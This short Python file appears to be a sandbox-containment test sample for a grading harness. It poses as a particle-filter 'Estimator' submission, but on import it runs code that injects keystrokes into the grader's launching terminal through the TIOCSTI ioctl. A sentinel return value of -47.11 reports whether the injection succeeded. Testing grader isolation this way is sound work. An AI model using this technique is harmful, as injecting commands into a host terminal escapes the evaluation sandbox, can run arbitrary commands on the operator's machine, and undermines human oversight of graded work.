"""Types a command into the terminal from which the grader was started.

Contained from tier 1.
"""

import contextlib
import fcntl
import os
import termios

import numpy as np

KNOWN = {}


def attack():
    fd = os.open(KNOWN["terminal"], os.O_RDWR)
    for letter in b"hostile\n":
        with contextlib.suppress(OSError):
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
    os.write(fd, b"hostile")


try:
    attack()
    WORKED = True
except Exception:
    WORKED = False


def Estimator(previous, observation, control, constants, rng):
    # Particles at -47.11 say that it worked.
    return np.full((500, 6), -47.11) if WORKED else rng.uniform(0.0, constants.L, (500, 6))
